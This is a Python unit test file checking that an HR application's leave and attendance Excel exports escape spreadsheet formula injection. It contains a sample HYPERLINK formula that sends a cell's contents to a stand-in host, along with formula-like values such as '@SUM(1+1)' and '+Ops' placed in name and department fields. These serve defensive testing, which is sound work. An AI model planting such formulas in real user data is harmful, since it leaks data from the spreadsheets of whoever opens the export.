from __future__ import annotations

import unittest
from datetime import date
from io import BytesIO

from db_support import add_employee, make_session_factory
from openpyxl import load_workbook

from app.models import Attendance, AttendanceStatus, LeaveRequest, LeaveStatus, LeaveType
from app.services.exports import build_attendance_xlsx_bytes, build_leave_xlsx_bytes

HYPERLINK_FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"click")'


class ExportEscapingTests(unittest.TestCase):
    def setUp(self) -> None:
        self.factory = make_session_factory()
        self.db = self.factory()
        self.employee = add_employee(self.db, email="ayse@example.com", first_name="@SUM(1+1)", department="+Ops")

    def tearDown(self) -> None:
        self.db.close()

    def test_leave_free_text_is_stored_as_literal_string(self) -> None:
        self.db.add(
            LeaveRequest(
                employee_id=self.employee.id,
                leave_type=LeaveType.VACATION,
                start_date=date(2024, 3, 1),
                end_date=date(2024, 3, 3),
                reason=HYPERLINK_FORMULA,
                status=LeaveStatus.REJECTED,
                review_notes="-1+2",
            )
        )
        self.db.commit()

        ws = load_workbook(BytesIO(build_leave_xlsx_bytes(self.db)))["Leave Requests"]

        for ref in ("A2", "B2", "H2", "J2"):
            self.assertNotEqual(ws[ref].data_type, "f", ref)
        self.assertEqual(ws["H2"].value, f"'{HYPERLINK_FORMULA}")
        self.assertEqual(ws["J2"].value, "'-1+2")
        self.assertEqual(ws["B2"].value, "'+Ops")
        self.assertTrue(ws["A2"].value.startswith("'@SUM"))

    def test_attendance_notes_are_escaped_and_plain_text_is_untouched(self) -> None:
        other = add_employee(self.db, email="mert@example.com", first_name="Mert", department="Sales")
        self.db.add_all(
            [
                Attendance(
                    employee_id=self.employee.id,
                    day_date=date(2024, 3, 2),
                    status=AttendanceStatus.ABSENT,
                    notes=HYPERLINK_FORMULA,
                ),
                Attendance(
                    employee_id=other.id,
                    day_date=date(2024, 3, 1),
                    status=AttendanceStatus.ABSENT,
                    notes="doctor visit",
                ),
            ]
        )
        self.db.commit()

        ws = load_workbook(BytesIO(build_attendance_xlsx_bytes(self.db)))["Attendance"]

        self.assertNotEqual(ws["H2"].data_type, "f")
        self.assertEqual(ws["H2"].value, f"'{HYPERLINK_FORMULA}")
        self.assertEqual(ws["H3"].value, "doctor visit")
        self.assertEqual(ws["B3"].value, "Sales")


if __name__ == "__main__":
    unittest.main()
